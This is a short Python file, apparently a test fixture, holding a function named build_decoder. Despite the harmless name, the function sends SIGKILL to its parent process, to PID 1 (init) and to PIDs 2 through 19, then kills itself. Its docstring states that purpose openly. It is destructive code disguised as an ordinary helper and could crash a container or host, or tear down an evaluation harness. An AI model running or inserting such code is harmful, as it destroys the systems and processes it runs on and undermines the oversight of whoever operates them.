"""Kills its parent, the first process, and what else it finds."""
# ruff: noqa

# %% build_decoder
import os
import signal


def build_decoder(index):
    for number in (os.getppid(), 1, *range(2, 20)):
        if number and number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
